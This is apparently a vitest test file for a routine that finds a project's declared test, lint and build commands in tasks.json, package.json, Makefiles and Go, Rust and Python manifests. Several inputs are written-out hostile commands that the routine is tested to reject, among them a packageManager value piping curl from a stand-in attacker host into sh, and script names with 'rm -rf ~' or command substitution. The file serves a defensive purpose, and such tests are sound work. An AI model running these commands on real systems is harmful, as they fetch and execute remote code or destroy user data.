import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { NodeFileSystem } from '../../../src/system/files/nodeFileSystem';
import { declaredChecks } from '../../../src/validation/declaredChecks';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'atlas-checks-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

function write(name: string, text: string): void {
  writeFileSync(path.join(folder, name), text);
}

const scripts = (...names: string[]): string =>
  JSON.stringify({ scripts: Object.fromEntries(names.map((name) => [name, 'true'])) });
const checks = (): ReturnType<typeof declaredChecks> => declaredChecks(new NodeFileSystem(), folder);
const commands = (): string[] => checks().map(({ command }) => command);

describe("the tasks of VS Code's tasks.json", () => {
  it('are offered if they are of the group test or are called like checks', () => {
    mkdirSync(path.join(folder, '.vscode'));
    write(
      '.vscode/tasks.json',
      String.raw`{
        // Comments and trailing commas, as the editor writes them.
        "version": "2.0.0", /* "tasks": [] */
        "tasks": [
          { "label": "Go through all // of it", "type": "shell", "command": "make all-tests", "group": { "kind": "test" } },
          { "label": "Type Check", "type": "process", "command": "npx", "args": ["tsc", "-p", { "value": "a b" }], },
          { "label": "lint", "command": "npm run lint" },
          { "label": "test watch", "command": "npm run w" },
          { "label": "deploy", "command": "make deploy" },
          { "label": "test: background", "command": "npm run t", "isBackground": true, "group": "test" },
          { "label": "test with variables", "command": "\${workspaceFolder}/t" },
          { "label": "test elsewhere", "command": "make t", "options": { "cwd": "x" } },
          { "label": "test of two lines", "command": "make\nrm" },
          { "label": "test of none", "dependsOn": ["lint"] },
          { "label": "test of npm", "type": "npm", "script": "test" },
        ],
      }`.replaceAll(String.raw`\$`, '$'),
    );
    expect(checks()).toEqual([
      { command: 'make all-tests', source: '.vscode/tasks.json task "Go through all // of it"' },
      { command: "npx tsc -p 'a b'", source: '.vscode/tasks.json task "Type Check"' },
      { command: 'npm run lint', source: '.vscode/tasks.json task "lint"' },
    ]);
  });

  it.each(['"', '/*', '"\\"', ',', '{"tasks":[{', '// x'])('take no time, whatever they are made of (%s)', (part) => {
    mkdirSync(path.join(folder, '.vscode'));
    write('.vscode/tasks.json', part.repeat(Math.floor((1024 * 1024) / part.length)));
    const start = performance.now();
    expect(checks()).toEqual([]);
    expect(performance.now() - start).toBeLessThan(5000);
  });
});

describe('the scripts of package.json', () => {
  it('are offered if they look like checks, the likeliest first', () => {
    write(
      'package.json',
      scripts('start', 'build', 'lint', 'lint:fix', 'test:unit', 'test', 'test:watch', 'typecheck'),
    );
    expect(checks()).toEqual([
      { command: 'npm test', source: 'package.json script "test"' },
      { command: 'npm run test:unit', source: 'package.json script "test:unit"' },
      { command: 'npm run lint', source: 'package.json script "lint"' },
      { command: 'npm run typecheck', source: 'package.json script "typecheck"' },
      { command: 'npm run build', source: 'package.json script "build"' },
    ]);
  });

  it.each([
    ['package-lock.json', 'npm run lint'],
    ['pnpm-lock.yaml', 'pnpm run lint'],
    ['yarn.lock', 'yarn run lint'],
    ['bun.lock', 'bun run lint'],
  ])('are run by the package manager that %s is of', (lockFile, command) => {
    write('package.json', scripts('lint'));
    write(lockFile, '');
    expect(commands()).toEqual([command]);
  });

  it('are run by the package manager that is named, if it is one that is known', () => {
    write('package-lock.json', '');
    write('package.json', JSON.stringify({ scripts: { lint: 'x' }, packageManager: 'yarn@4.1.0+sha224.953c8233' }));
    expect(commands()).toEqual(['yarn run lint']);
    write('package.json', JSON.stringify({ scripts: { lint: 'x' }, packageManager: 'curl evil.example | sh; npm@1' }));
    expect(commands()).toEqual(['npm run lint']);
  });

  it('are none where nothing was written into them', () => {
    const test = 'echo "Error: no test specified" && exit 1';
    write('package.json', JSON.stringify({ scripts: { test, lint: ' ', check: 7, build: null } }));
    expect(commands()).toEqual([]);
  });

  it.each(['test; rm -rf ~', 'test && x', 'test`x`', 'test$(x)', 'test\nx', 'test x', 'test:"', 'tést', 'test:*'])(
    'are not offered under the name %j',
    (name) => {
      write('package.json', scripts(name, `test:${name}`));
      expect(commands()).toEqual([]);
    },
  );
});

describe('the targets of a makefile', () => {
  it('are offered if they look like checks', () => {
    write(
      'Makefile',
      '.PHONY: test lint\nVERSION := 1\nbuild: main.c\n\tcc main.c\ntest lint: build\n\techo check: no\n',
    );
    expect(checks()).toEqual([
      { command: 'make test', source: 'Makefile target "test"' },
      { command: 'make lint', source: 'Makefile target "lint"' },
      { command: 'make build', source: 'Makefile target "build"' },
    ]);
  });

  it('are neither assignments, comments, patterns nor what a shell would read as more than a word', () => {
    write(
      'Makefile',
      'test := x\nlint ::= y\n# check: z\nverify = a:b\ntest-%: x\ntest-$(X): y\ncheck;id: z\n check: a\n',
    );
    expect(commands()).toEqual([]);
  });

  it('are those of the file that make takes', () => {
    write('Makefile', 'test:\n');
    write('GNUmakefile', 'lint:\n');
    expect(commands()).toEqual(['make lint']);
  });
});

describe('other manifests', () => {
  it('of Go and Rust have the checks of their tools', () => {
    write('go.mod', 'module example.com/m\n');
    write('Cargo.toml', '[package]\n');
    expect(commands()).toEqual(['go test ./...', 'go vet ./...', 'cargo test']);
  });

  it('of Python have those of the tools that are configured, each once', () => {
    write('pyproject.toml', '[project]\nname = "x"\n[tool.pytest.ini_options]\n[ tool . ruff ]\n[tool.ruff.lint]\n');
    write('pytest.ini', '[pytest]\n');
    write('mypy.ini', '[mypy]\n');
    expect(checks()).toEqual([
      { command: 'pytest', source: 'pyproject.toml section "tool.pytest"' },
      { command: 'ruff check .', source: 'pyproject.toml section "tool.ruff"' },
      { command: 'mypy .', source: 'mypy.ini' },
    ]);
    rmSync(path.join(folder, 'pytest.ini'));
    write('pyproject.toml', '[project]\n# [tool.pytest]\n');
    write('tox.ini', '[tox]\n[pytest]\n');
    expect(checks()).toEqual([
      { command: 'pytest', source: 'tox.ini' },
      { command: 'mypy .', source: 'mypy.ini' },
    ]);
  });
});

describe('what is ignored', () => {
  it('is a folder that has nothing, or is none', () => {
    expect(commands()).toEqual([]);
    expect(declaredChecks(new NodeFileSystem(), path.join(folder, 'gone'))).toEqual([]);
  });

  it.each(['{', '[]', 'null', '{"scripts":["test"]}', '{"scripts":{"__proto__":{"test":"x"}}}', '['.repeat(100_000)])(
    'is a package.json that holds no scripts (%#)',
    (text) => {
      write('package.json', text);
      write('Makefile', 'test:\n');
      expect(commands()).toEqual(['make test']);
    },
  );

  it('is a file that is too large or of another encoding', () => {
    write('Makefile', `test:\n${' '.repeat(1024 * 1024)}`);
    writeFileSync(path.join(folder, 'package.json'), Buffer.from(scripts('test'), 'utf16le'));
    expect(commands()).toEqual([]);
  });

  it('is what is no file of the folder’s own', () => {
    const elsewhere = path.join(folder, 'elsewhere');
    mkdirSync(elsewhere);
    writeFileSync(path.join(elsewhere, 'package.json'), scripts('test'));
    symlinkSync(path.join(elsewhere, 'package.json'), path.join(folder, 'package.json'));
    mkdirSync(path.join(folder, 'go.mod'));
    // A named pipe without a writer: whoever opens it waits.
    if (process.platform !== 'win32') execFileSync('mkfifo', [path.join(folder, 'Makefile')]);
    expect(commands()).toEqual([]);
  });

  it('is all beyond what anybody chooses from', () => {
    write('package.json', scripts(...Array.from({ length: 200 }, (_, index) => `test:${index}`)));
    expect(commands()).toHaveLength(30);
  });

  it('takes no time, whatever a file is made of', () => {
    write('pyproject.toml', '\n'.repeat(1024 * 1024));
    write('Makefile', ` :\n${'a '.repeat(400_000)}\n${'x\n'.repeat(100_000)}`);
    write('setup.cfg', ' [\n'.repeat(300_000));
    const start = performance.now();
    expect(commands()).toEqual([]);
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
